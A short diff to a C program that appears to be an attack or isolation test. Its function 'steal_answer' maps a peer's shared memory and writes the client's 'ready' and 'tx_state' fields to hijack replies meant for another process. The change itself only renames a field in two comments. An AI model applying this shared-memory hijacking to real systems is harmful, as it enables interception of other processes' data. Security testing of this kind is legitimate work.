@@ -22,7 +22,7 @@
 #define MARK "TOP-SECRET-PAYLOAD"
 #define RING 4096
 #define MAGIC 0x6c6f6f70u
-#define CLIENT_LINE 64   /* struct lf_shared: the client's struct lf_side (ready, tx_switched) */
+#define CLIENT_LINE 64   /* struct lf_shared: the client's struct lf_side (ready, tx_state) */
 
 struct seen { unsigned char *map; size_t len; };
 static struct seen maps[4096];
@@ -106,7 +106,7 @@ static void steal_answer(int u)
         stolen++;   /* a server's answer, not the other attacker's */
     if (map != MAP_FAILED) {
         uint32_t one = 1;
-        memcpy(map + CLIENT_LINE + 4, &one, 4);   /* tx_switched */
+        memcpy(map + CLIENT_LINE + 4, &one, 4);   /* tx_state: TX_RING */
         __atomic_store_n((uint32_t *)(map + CLIENT_LINE), 1, __ATOMIC_RELEASE);   /* ready */
         remember(map, (size_t)st.st_size);
     }
